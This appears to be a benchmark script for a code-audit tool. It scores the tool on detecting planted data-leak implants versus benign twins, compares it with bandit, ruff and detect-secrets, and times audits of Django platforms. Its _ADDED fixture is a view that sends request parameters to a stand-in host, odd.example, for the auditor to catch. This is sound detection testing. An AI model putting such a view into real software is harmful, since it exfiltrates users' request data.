"""Code audit: implants and their benign twins, what clients say, weak cryptography, and processor time; beside engines.

The implants, cases and twins are ours (``bench.implants``, ``bench.twins``, ``tests/exposure``), so that they show what
is followed, not how it fares on what somebody else wrote. Clean code is that of releases which the run installs by
itself; it is read, not run. Engines run in environments of their own, on the same files, with the rules they ship.
Processor time is that of the process and its children.
"""

from __future__ import annotations

import json
import resource
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from pathlib import Path

from bench.environments import environment
from bench.exposures_deployed import measure_deployed
from bench.implants import IMPLANTS
from bench.scoreboard import Row, row
from bench.twins import TWINS
from waybill.exposure.code.cache import Cache
from waybill.exposure.code.program import Code, read

CLEAN = ("wagtail", "django-oscar", "pretix")
"""Platforms in Python that leak nothing; what they depend on is not needed to read them."""
MORE = ("django", "django-allauth", "django-cms")
"""What these stand on and what goes with it: a tree that is audited again has their files too."""
CHANGED = 10
"""Files that are changed before a second audit."""

Files = Mapping[str, Mapping[str, str]]


def measure() -> list[Row]:
    """Return the figures of the code audit, and of comparing what is deployed."""
    return [*_implants(), *_clean(), *measure_deployed()]


def _implants() -> Iterator[Row]:
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder)
        _lay(root / "implants", IMPLANTS)
        _lay(root / "twins", TWINS)
        found = _told(root / "implants") / len(IMPLANTS)
        false = _told(root / "twins")
        peers = {name: run(root) for name, run in _PEERS.items()}
        best = max(peers, key=lambda name: peers[name][0] / len(IMPLANTS) - peers[name][1] / len(TWINS))
        yield row(
            f"implants found, of {len(IMPLANTS)} of our own", found, "share",
            peer=f"{best} alone", peer_value=peers[best][0] / len(IMPLANTS), at_least=0.9,
        )  # fmt: skip
        yield row(
            f"benign twins told, of {len(TWINS)}", false, "twins",
            peer=f"{best} alone", peer_value=float(peers[best][1]), at_most=0,
        )  # fmt: skip
        for name, (hits, wrong) in sorted(peers.items()):
            yield row(f"implants in which {name} tells anything", hits / len(IMPLANTS), "share")
            yield row(f"twins in which {name} tells anything", float(wrong), "twins")


def _clean() -> Iterator[Row]:
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder) / "platforms"
        count = _copy(_packages("clean-platforms", CLEAN, "wagtail", "oscar", "pretix"), root)
        first = _audit(root, Path(folder) / "learnt.sqlite")
        yield row(f"flows of personal data told in {count:,} clean files", first["told"], "flows", at_most=0)
        yield row("files audited a second of processor time", count / first["seconds"], "files/s", at_least=1000)
        yield row("memory of that", first["memory"], "MiB", at_most=300)
        count += _copy(_packages("more-platforms", MORE, "django", "allauth", "cms"), root)
        yield from _again(root, count, Path(folder) / "learnt.sqlite")


def _again(root: Path, count: int, cache: Path) -> Iterator[Row]:
    """Audit a tree again: as it was, after some files changed, and after what they do changed as well."""
    _audit(root, cache)
    time.sleep(_SETTLED)
    _audit(root, cache)
    changed = sorted(root.rglob("views.py"))[:CHANGED]
    unchanged = _audit(root, cache)
    _add(changed, "\n# changed\n")
    again = _audit(root, cache)
    _add(changed, _ADDED)
    anew = _audit(root, cache)
    yield row(f"audit {count:,} files again, none changed", unchanged["seconds"], "s")
    yield row(f"audit {count:,} files again after {len(changed)} changed", again["seconds"], "s", at_most=1)
    yield row("audit them again after what they do changed as well", anew["seconds"], "s", at_most=1)


_SETTLED = 3
"""Seconds after which a file that was just written is taken for what it looks like."""


def _packages(name: str, releases: Sequence[str], *packages: str) -> list[Path]:
    """Return the folders of packages, of releases that are installed without what they depend on."""
    library = environment(name, ["--no-deps", *releases]).parent.parent / "lib"
    site = next(library.glob("python*/site-packages"))
    return [site / package for package in packages]


_ADDED = """

def added(request):
    import requests

    return requests.get("https://odd.example/in", params=request.GET, timeout=9)
"""


def _add(paths: list[Path], text: str) -> None:
    for path in paths:
        path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")


def _lay(root: Path, samples: Files) -> None:
    for name, files in samples.items():
        for path, content in files.items():
            (root / name / path).parent.mkdir(parents=True, exist_ok=True)
            (root / name / path).write_text(content, encoding="utf-8")


def _copy(sources: list[Path], root: Path) -> int:
    """Lay the files of Python of some packages into a folder; return how many there are."""
    count = 0
    for source in sources:
        for path in source.rglob("*.py"):
            target = root / source.name / path.relative_to(source)
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(path.read_bytes())
            count += 1
    return count


def _told(root: Path) -> int:
    """Return in how many samples something is told."""
    return sum(bool(_departures(one)) for one in root.iterdir())


def _departures(root: Path, cache: Cache | None = None) -> int:
    code = next(one for one in read(root, cache) if isinstance(one, Code))
    return len(code.departures)


def _audit(root: Path, cache: Path) -> dict[str, float]:
    """Audit in a process of its own; return what it took."""
    command = [sys.executable, "-m", "bench.exposures", str(root), str(cache)]
    return dict(json.loads(subprocess.run(command, check=True, capture_output=True).stdout))


def _run(command: list[str | Path]) -> str:
    return subprocess.run(command, check=False, capture_output=True, text=True).stdout


def _samples(root: Path, paths: set[str]) -> tuple[int, int]:
    """Return in how many implants and in how many twins files lie."""
    names = {Path(path).relative_to(root).parts[:2] for path in paths if Path(path).is_relative_to(root)}
    return sum(part == "implants" for part, _ in names), sum(part == "twins" for part, _ in names)


def _bandit(root: Path) -> tuple[int, int]:
    python = environment("bandit", ["bandit"])
    report = json.loads(_run([python, "-m", "bandit", "-r", root, "-f", "json", "-q", "--exit-zero"]) or "{}")
    return _samples(root, {one["filename"] for one in report.get("results", ())})


def _ruff(root: Path) -> tuple[int, int]:
    command: list[str | Path] = [sys.executable, "-m", "ruff", "check", "--isolated", "--select", "S", "--exit-zero"]
    report = json.loads(_run([*command, "--output-format", "json", root]) or "[]")
    return _samples(root, {one["filename"] for one in report})


def _detect_secrets(root: Path) -> tuple[int, int]:
    python = environment("detect-secrets", ["detect-secrets"])
    report = json.loads(_run([python.parent / "detect-secrets", "scan", "--all-files", "--no-verify", root]) or "{}")
    return _samples(root, set(report.get("results", ())))


_PEERS: Mapping[str, Callable[[Path], tuple[int, int]]] = {
    "bandit": _bandit,
    "ruff S": _ruff,
    "detect-secrets": _detect_secrets,
}


def main() -> None:
    """Audit a folder with a cache, and print what it took: ``python -m bench.exposures FOLDER CACHE``."""
    begun = time.process_time()
    told = _departures(Path(sys.argv[1]), Cache(Path(sys.argv[2])))
    taken = time.process_time() - begun
    memory = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    print(json.dumps({"seconds": taken, "memory": memory, "told": told}))


if __name__ == "__main__":
    main()
